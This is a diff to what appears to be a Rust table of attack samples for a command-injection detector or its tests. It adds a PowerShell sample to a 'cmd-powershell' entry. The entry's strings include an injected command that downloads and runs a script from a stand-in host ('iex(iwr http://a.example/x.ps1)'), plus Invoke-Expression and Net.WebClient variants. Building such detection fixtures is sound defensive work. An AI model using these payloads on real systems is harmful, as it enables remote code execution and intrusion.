@@ -163,7 +163,12 @@ const ATTACKS: &[(&str, &[&str])] = &[
     ),
     (
         "cmd-powershell",
-        &["x;iex(iwr http://a.example/x.ps1)", "x|IEX (New-Object Net.WebClient)", "Invoke-Expression($x)"],
+        &[
+            "x;iex(iwr http://a.example/x.ps1)",
+            "x|IEX (New-Object Net.WebClient)",
+            "Invoke-Expression($x)",
+            "Invoke-Expression -Command a.ps1",
+        ],
     ),
     (
         "cmd-shellshock",
